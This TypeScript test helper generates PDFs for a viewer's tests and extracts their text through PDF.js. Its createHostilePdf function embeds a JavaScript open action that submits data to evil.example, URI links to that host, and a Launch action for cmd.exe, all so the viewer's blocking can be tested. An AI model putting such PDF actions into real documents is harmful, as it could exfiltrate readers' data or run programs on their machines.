/** Writes PDFs for the tests of the viewer, and reads those that the browser prints. */
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';

interface PdfOptions {
  /** Added to the catalog of the document, such as an action that runs when it opens. */
  readonly catalog?: string;
  /** Added to the trailer, such as a reference to a dictionary of encryption. */
  readonly trailer?: string;
  /** More objects, before the objects of the pages. The first one has the number 4. */
  readonly objects?: readonly string[];
  /** Added to each page, such as its annotations. */
  readonly page?: string;
  /** Drawn on each page after its text. */
  readonly drawing?: string;
}

/** The objects that each document has: catalog, tree of pages, font. */
const FIXED_OBJECTS = 3;

/** Creates a document with one page for each text, in which each line of the text is a line. */
export function createPdf(
  texts: readonly string[],
  { catalog = '', trailer = '', objects = [], page = '', drawing = '' }: PdfOptions = {},
): Buffer {
  const firstPage = FIXED_OBJECTS + objects.length + 1;
  const kids = texts.map((_, index) => `${firstPage + 2 * index} 0 R`).join(' ');
  const pages = texts.flatMap((text, index) => {
    const content = `BT /F1 14 Tf 18 TL 72 720 Td ${text.split('\n').map(showLine).join(' T* ')} ET ${drawing}`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${firstPage + 2 * index + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> ${page} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ];
  });
  return join(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...objects,
      ...pages,
    ],
    trailer,
  );
}

function showLine(line: string): string {
  return `(${line.replaceAll(/[()\\]/g, String.raw`\$&`)}) Tj`;
}

function join(objects: readonly string[], trailer: string): Buffer {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const start = file.length;
  const count = objects.length + 1;
  file += `xref\n0 ${count}\n0000000000 65535 f \n${offsets.join('')}`;
  file += `trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}

/** A page with a black square of 8 by 8 pixels in the format of fax machines (CCITT group 4), and without text. */
export function createFaxPdf(): Buffer {
  const image =
    'BI /W 8 /H 8 /BPC 1 /CS /G /D [1 0] /F /CCF /DP << /K -1 /Columns 8 /Rows 8 >> ID \u00ff\u0000\u0010\u0001 EI';
  return createPdf([''], { drawing: `q 400 0 0 400 100 200 cm ${image} Q` });
}

/** A document that opens only with a password: its dictionary of encryption fits no empty one. */
export function createEncryptedPdf(): Buffer {
  const key = '00'.repeat(32);
  return createPdf(['Secret'], {
    objects: [`<< /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >>`],
    trailer: '/Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
  });
}

function createAction(kind: string): string {
  return `<< /Type /Action ${kind} >>`;
}

/** A document that tries to run scripts, to open and load pages of other hosts, and to start programs. */
export function createHostilePdf(): Buffer {
  return createPdf(['Impression: no acute findings.', 'Second page'], {
    catalog: `/OpenAction ${createAction('/S /JavaScript /JS (app.alert\\("opened"\\); this.submitForm\\("https://evil.example/collect"\\);)')} /AA << /WC ${createAction('/S /URI /URI (https://evil.example/closed)')} >>`,
    page: `/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${createAction('/S /URI /URI (https://evil.example/link)')} >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${createAction('/S /Launch /F (cmd.exe)')} >> ]`,
  });
}

/** The app's copy of PDF.js, in the build for Node. */
const PDFJS = pathToFileURL(resolve('examples/chart/node_modules/pdfjs-dist/legacy/build/pdf.mjs')).href;

interface PdfJs {
  readonly getDocument: (options: { readonly data: Uint8Array; readonly verbosity: number }) => {
    readonly promise: Promise<{
      readonly numPages: number;
      getPage(number: number): Promise<{
        getTextContent(): Promise<{ readonly items: readonly { readonly str?: string }[] }>;
      }>;
    }>;
    destroy(): Promise<void>;
  };
}

/** Returns the text of each page. */
export async function readPdf(bytes: Uint8Array): Promise<string[]> {
  // oxlint-disable-next-line typescript/no-unsafe-assignment -- its address is known only at run time
  const { getDocument }: PdfJs = await import(PDFJS);
  const loading = getDocument({ data: new Uint8Array(bytes), verbosity: 0 });
  const pdf = await loading.promise;
  const texts: string[] = [];
  for (let number = 1; number <= pdf.numPages; number += 1) {
    const page = await pdf.getPage(number);
    const { items } = await page.getTextContent();
    texts.push(items.map(({ str = '' }) => str).join(' '));
  }
  await loading.destroy();
  return texts;
}
